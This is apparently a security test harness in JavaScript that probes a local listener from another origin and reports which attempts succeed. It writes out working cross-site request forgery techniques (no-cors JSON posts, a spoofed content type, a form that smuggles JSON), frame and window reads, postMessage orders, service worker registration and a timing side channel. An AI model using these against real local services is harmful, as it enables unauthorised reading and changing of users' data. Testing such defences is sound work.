// What a page on another site can try at a listener on this machine. `attack(target, gets, posts, wish)` tries all of it and tells what it
// could get hold of: [{how, path, got}], where `got` is empty for an attempt that brought nothing.

const patience = 4000;
const soon = (promise, otherwise = "") =>
  Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve(otherwise), patience))]);
const attempt = async (body) => {
  try {
    return (await soon(body())) ?? "";
  } catch {
    return "";
  }
};

// Reading.

// Of another origin any answer that can be read is too much; a page that was rebound may read that it is refused.
const readable = async (answer) => (answer.type === "cors" || answer.ok ? `${answer.status} ${(await firstBytes(answer)).slice(0, 80)}` : "");

async function firstBytes(answer) {
  const reader = answer.body?.getReader();
  const piece = reader && (await soon(reader.read(), null));
  reader?.cancel();
  return piece?.value ? new TextDecoder().decode(piece.value) : "";
}

const element = (name, url, set = {}) =>
  new Promise((resolve) => {
    const made = Object.assign(document.createElement(name), set);
    const done = (got) => {
      made.remove();
      resolve(got);
    };
    made.onload = () => done(name === "img" ? `${made.naturalWidth} wide` : "loaded");
    made.onloadedmetadata = () => done(`${made.duration} s`);
    made.onerror = () => done("");
    setTimeout(() => done(""), patience);
    if (name === "link") made.href = url;
    else made.src = url;
    document.documentElement.append(made);
  });

// A page that was rebound may read that it is refused.
const content = (page) => {
  const text = page?.body?.innerText ?? "";
  return text.includes('"code":"request.forbidden') ? "" : text.slice(0, 80);
};

// A frame loads in any case; what counts is whether it can be looked into.
const frame = (url) =>
  new Promise((resolve) => {
    const made = document.createElement("iframe");
    const look = () => {
      let got = "";
      try {
        got = content(made.contentDocument);
      } catch {
        // It is of another origin.
      }
      made.remove();
      resolve(got);
    };
    made.onload = look;
    setTimeout(look, patience);
    made.src = url;
    document.documentElement.append(made);
  });

const otherWindow = async (url) => {
  const opened = window.open(url);
  if (!opened) return "";
  await new Promise((resolve) => setTimeout(resolve, 700));
  let got = "";
  try {
    got = content(opened.document);
  } catch {
    for (const order of ["take", { type: "take", service: "general" }, { type: "touched" }]) opened.postMessage(order, "*");
  }
  opened.close();
  return got;
};

const events = (url) =>
  new Promise((resolve) => {
    const source = new EventSource(url);
    const done = (got) => {
      source.close();
      resolve(got);
    };
    source.onopen = () => done("open");
    for (const name of ["hall", "ticket", "display", "slip", "message"]) source.addEventListener(name, ({ data }) => done(data.slice(0, 80)));
    source.onerror = () => done("");
    setTimeout(() => done(""), patience);
  });

const webSocket = (url) =>
  new Promise((resolve) => {
    const socket = new WebSocket(url.replace(/^http/, "ws"));
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("");
    setTimeout(() => resolve(""), patience);
  });

const readings = {
  fetch: async (url) => readable(await fetch(url)),
  "fetch no-cors": async (url) => readable(await fetch(url, { mode: "no-cors" })),
  "fetch same-origin": async (url) => readable(await fetch(url, { mode: "same-origin" })),
  "fetch with credentials": async (url) => readable(await fetch(url, { credentials: "include" })),
  "fetch HEAD": async (url) => readable(await fetch(url, { method: "HEAD" })),
  XMLHttpRequest: (url) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.onprogress = request.onload = () => resolve(request.status < 300 ? request.responseText.slice(0, 80) : "");
      request.onerror = () => resolve("");
      request.send();
    }),
  image: (url) => element("img", url),
  script: (url) => element("script", url),
  module: (url) => element("script", url, { type: "module" }),
  style: (url) => element("link", url, { rel: "stylesheet" }),
  preload: (url) => element("link", url, { rel: "preload", as: "script" }),
  video: (url) => element("video", url),
  frame,
  EventSource: events,
  WebSocket: webSocket,
  // A worker of ours would stand between the page and its server.
  "service worker": async (url) => (await navigator.serviceWorker.register(url)) && "registered",
};

// Writing.

const json = "application/json";
const plain = "text/plain";
const form = "application/x-www-form-urlencoded";
const send = (how) => async (url, wish) => {
  const headers = how.type ? { "Content-Type": how.type } : {};
  return readable(await fetch(url, { method: how.method ?? "POST", mode: how.mode, headers, body: how.body?.(wish) ?? wish, keepalive: how.keepalive }));
};

/** Sends a form into a frame; what comes of it is for the listener to say. */
const submit = (enctype, fields) => async (url, wish) => {
  const target = Object.assign(document.createElement("iframe"), { name: `frame${Math.random()}` });
  const made = Object.assign(document.createElement("form"), { method: "post", action: url, enctype, target: target.name });
  for (const [name, value] of fields(JSON.parse(wish), wish)) {
    made.append(Object.assign(document.createElement("input"), { name, value }));
  }
  document.documentElement.append(target, made);
  const loaded = new Promise((resolve) => (target.onload = resolve));
  made.submit();
  await soon(loaded);
  target.remove();
  made.remove();
};

const entries = (wish) => Object.entries(wish);
// JSON in the shape of a form's line: the name up to the "=", the value behind it.
const crafted = (_, text) => [[`${text.slice(0, -1)},"x":"`, `"}`]];

const writings = {
  "fetch json": send({ type: json }),
  "fetch json no-cors": send({ type: json, mode: "no-cors" }),
  "fetch text no-cors": send({ type: plain, mode: "no-cors" }),
  "fetch text pretending": send({ type: `${plain}; ${json}`, mode: "no-cors" }),
  "fetch form no-cors": send({ type: form, mode: "no-cors" }),
  "fetch without type": send({ mode: "no-cors", body: (wish) => new Blob([wish]) }),
  "fetch json blob": send({ mode: "no-cors", body: (wish) => new Blob([wish], { type: json }) }),
  "fetch same-origin": send({ type: json, mode: "same-origin" }),
  "fetch PUT": send({ type: json, method: "PUT" }),
  "fetch DELETE": send({ type: json, method: "DELETE" }),
  "fetch keepalive": send({ type: plain, mode: "no-cors", keepalive: true }),
  "beacon text": async (url, wish) => void navigator.sendBeacon(url, wish),
  "beacon json": async (url, wish) => void navigator.sendBeacon(url, new Blob([wish], { type: json })),
  "form urlencoded": submit(form, entries),
  "form multipart": submit("multipart/form-data", entries),
  "form text": submit(plain, crafted),
  "form with the wish in the query": async (url, wish) => submit(form, entries)(`${url}?${new URLSearchParams(JSON.parse(wish))}`, wish),
};

/** A wish with an intent of its own. */
const renewed = (body) => JSON.stringify({ ...body, ...("intent" in body ? { intent: crypto.randomUUID?.() ?? uuid() } : {}) });
// Where the context is not secure.
const uuid = () => "10000000-1000-4000-8000-100000000000".replace(/[018]/g, (digit) => (digit ^ (crypto.getRandomValues(new Uint8Array(1))[0] & (15 >> (digit / 4)))).toString(16));

/**
 * @param {string} target without a slash at the end
 * @param {string[]} gets paths
 * @param {[string, object][]} posts paths, each with what would be a good body
 */
async function attack(target, gets, posts, { windows = true } = {}) {
  const report = [];
  const tried = async (how, path, body) => report.push({ how, path, got: String(await attempt(body)) });
  for (const path of gets) {
    await Promise.all(Object.entries(readings).map(([how, read]) => tried(how, path, () => read(target + path))));
    if (windows) await tried("window", path, () => otherWindow(target + path));
  }
  for (const [path, body] of posts) {
    for (const [how, write] of Object.entries(writings)) await tried(how, path, () => write(target + path, renewed(body)));
  }
  // What the browser measured of all that: sizes would tell one answer from another.
  if (new URL(target).origin !== location.origin) {
    for (const { name, transferSize, encodedBodySize, responseStatus } of performance.getEntriesByType("resource")) {
      const got = transferSize || encodedBodySize || responseStatus;
      if (name.startsWith(target) && got) report.push({ how: "timing", path: name, got: `${transferSize} ${encodedBodySize} ${responseStatus}` });
    }
  }
  return report;
}
